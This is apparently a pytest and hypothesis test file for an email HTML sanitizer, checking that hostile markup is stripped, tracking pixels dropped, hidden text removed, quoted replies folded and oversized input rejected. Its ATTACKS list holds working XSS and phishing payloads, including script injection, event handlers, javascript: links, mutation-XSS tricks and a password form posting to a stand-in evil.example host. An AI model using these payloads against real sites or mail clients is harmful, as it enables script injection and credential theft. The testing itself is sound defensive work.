"""What a stranger's HTML may do to the reader: nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inboxcrm.web.mail_html import MAX_CHARACTERS, clean_mail

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id=panel class=toast name=csrf_token>x</p>",
    "<a href='//evil.example/x'>x</a><a href='?images=1'>x</a>",
    "<title></title><textarea></title><script>alert(1)</script></textarea>",
]
ALLOWED = re.compile(
    r' (?:href="(?:https?:|mailto:|tel:)[^"]*"|src="https?:[^"]*"|alt="[^"]*"|title="[^"]*"|width="[^"]*"|height="[^"]*"'
    r'|colspan="[^"]*"|rowspan="[^"]*"|align="[^"]*"|start="[^"]*"|dir="[^"]*"|lang="[^"]*"|rel="noopener noreferrer nofollow"'
    r'|target="_blank"|class="(?:quoted|image)")'
)
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    "textarea",
    "title",
}


def check_harmless(html: str) -> None:
    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s[^<>]*)?)>", html):
        assert tag not in FORBIDDEN_TAGS
        assert ALLOWED.sub("", attributes).strip() == "", f"{tag} keeps {attributes}"


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("with_images", [False, True])
def test_no_attack_survives(attack, with_images):
    check_harmless(clean_mail(f"<p>before</p>{attack}<p>after</p>", with_images=with_images).html)


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "<b>",
                "</b>",
                "<table><td>",
                "</table>",
                "<blockquote>",
                "</div>",
                "<div>",
                "a & b",
                "&lt;script&gt;",
                "<",
                ">",
                '"',
                "'",
            ]
        ),
        max_size=12,
    )
)
def test_no_mixture_of_attacks_survives(pieces):
    check_harmless(clean_mail("".join(pieces), with_images=True).html)


def test_the_words_of_the_mail_stay():
    clean = clean_mail("<p>Hi <b>Alice</b>,</p><ul><li>one &amp; two</li></ul><p>1 &lt; 2</p>")
    assert clean.html == "<p>Hi <b>Alice</b>,</p><ul><li>one &amp; two</li></ul><p>1 &lt; 2</p>"


def test_links_lead_out_and_tell_nothing():
    html = clean_mail('<a href="https://kitaura.example/?a=1&amp;b=2">our page</a>').html
    assert 'href="https://kitaura.example/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_remote_images_are_counted_and_left_out():
    clean = clean_mail(
        '<img src="https://cdn.example/a.png" alt="Our logo"><img src="http://cdn.example/b.png">'
    )
    assert clean.remote_images == 2
    assert "cdn.example" not in clean.html
    assert '<span class="image">Our logo</span>' in clean.html


def test_remote_images_come_when_asked_for_but_no_tracking_pixel():
    clean = clean_mail(
        '<img src="https://cdn.example/a.png" width="40"><img src="https://t.example/o.gif" width="1" height="1">',
        with_images=True,
    )
    assert "https://cdn.example/a.png" in clean.html
    assert "t.example" not in clean.html
    assert clean.remote_images == 1


@pytest.mark.parametrize(
    "style",
    [
        "display:none",
        "DISPLAY: none !important",
        "visibility: hidden",
        "max-height:0px;overflow:hidden",
        "font-size:1px",
        "opacity: 0",
    ],
)
def test_what_was_hidden_stays_hidden(style):
    clean = clean_mail(f'<div style="{style}">Preheader <b>text</b></div><p>Letter</p>')
    assert clean.html == "<p>Letter</p>"


def test_what_only_looks_hidden_stays():
    clean = clean_mail(
        '<p style="opacity:0.9;font-size:14px;max-height:100px;display:block">Letter</p>'
    )
    assert "Letter" in clean.html


QUOTE = "<blockquote>" + "<p>What we wrote before.</p>" * 10 + "</blockquote>"


def test_the_past_at_the_end_is_folded():
    html = clean_mail(f"<p>Yes.</p><div>On Monday Alice wrote:{QUOTE}</div>").html
    assert html.count("<details") == 1
    assert html.index("<summary>") < html.index("<blockquote>") < html.index("</details>")


def test_quotes_answered_line_by_line_stay_open():
    assert (
        "<details"
        not in clean_mail(f"{QUOTE}<p>Here is what I think about that, at some length.</p>").html
    )


def test_gmails_line_above_the_quote_is_folded_with_it():
    html = clean_mail(
        f'<p>Yes.</p><div class="gmail_quote"><div class="gmail_attr">On Monday Alice wrote:</div>{QUOTE}</div>'
    ).html
    assert html.index("<details") < html.index("On Monday Alice wrote")
    assert html.count("<details") == 1
    assert "gmail" not in html


@pytest.mark.parametrize(
    "name", ["yahoo_quoted", "protonmail_quote", "gmail_quote gmail_quote_container"]
)
def test_other_services_marks_fold_too(name):
    html = clean_mail(f'<p>Yes.</p><div class="{name}">On Monday Alice wrote:{QUOTE}</div>').html
    assert html.index("<details") < html.index("On Monday Alice wrote")
    assert name not in html


OUTLOOK = (
    '<hr><div id="divRplyFwdMsg">From: Alice Berg<br>Sent: Monday</div><div>'
    + "We wrote this before. " * 20
)


def test_outlooks_quote_is_folded_to_the_end_of_what_holds_it():
    for html in (
        f"<p>Yes, please.</p>{OUTLOOK}</div>",
        f"<div><p>Yes, please.</p>{OUTLOOK}</div></div>",
        f"<table><tr><td><p>Yes, please.</p>{OUTLOOK}</div></td></tr></table>",
    ):
        clean = clean_mail(html).html
        assert clean.count("<details") == clean.count("</details>") == 1
        assert clean.index("Yes, please") < clean.index("<details") < clean.index("From: Alice")
        assert clean.index("We wrote this") < clean.index("</details>")
        assert "divRplyFwdMsg" not in clean


LINE = "border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"


@pytest.mark.parametrize("box", ["{}", "<div>\n{}</div>", "<div><div>{}</div>\n</div>"])
def test_the_line_above_the_old_mail_begins_the_quote(box):
    head = box.format(f"<div style='{LINE}'><p><b>From:</b> Alice Berg</p></div>")
    clean = clean_mail(
        f"<div class=WordSection1><p>Yes, please.</p>{head}<p>{'We wrote this before. ' * 20}</p></div>"
    ).html
    assert clean.index("Yes, please") < clean.index("<details") < clean.index("From:")
    assert clean.index("We wrote this") < clean.index("</details>")
    assert clean.count("<div>") == clean.count("</div>")


def test_what_is_written_below_outlooks_quote_keeps_it_open():
    html = f"<div><p>See below.</p>{OUTLOOK}</div></div><p>And here is what I think about all of that.</p>"
    assert "<details" not in clean_mail(html).html


def test_a_mail_forwarded_by_outlook_without_a_word_stays_open():
    assert "<details" not in clean_mail(f"<div>{OUTLOOK}</div></div>").html


def test_remote_images_are_named_by_where_they_lie():
    clean = clean_mail(
        "<img src='https://b.example/1.png'><img src='https://a.example:8443/2.png'>"
        "<img src='http://a.example/3.png'><img src='/4.png'><img src='data:image/png;base64,AA=='>"
    )
    assert clean.remote_images == 3
    assert clean.remote_hosts == ("a.example", "b.example")


def test_a_forwarded_mail_stays_open():
    html = clean_mail(
        '<div class="gmail_quote">---------- Forwarded message ----------<br>'
        + "words " * 50
        + "</div>"
    ).html
    assert "<details" not in html


def test_a_short_quote_stays_open():
    assert "<details" not in clean_mail("<p>Yes.</p><blockquote>Shall we?</blockquote>").html


@pytest.mark.parametrize(
    "html", ["<div>" * 100_000, "<table><tr><td>" * 60_000, "&" * 300_000, "<b><i>" * 50_000]
)
def test_a_tangled_mail_is_given_up_rather_than_rendered(html):
    clean = clean_mail(html)
    assert clean.is_tangled
    assert clean.html == ""


def test_a_very_long_mail_is_cut_and_says_so():
    clean = clean_mail("<p>" + "a" * (MAX_CHARACTERS + 5))
    assert clean.is_cut
    assert len(clean.html) <= MAX_CHARACTERS + 10
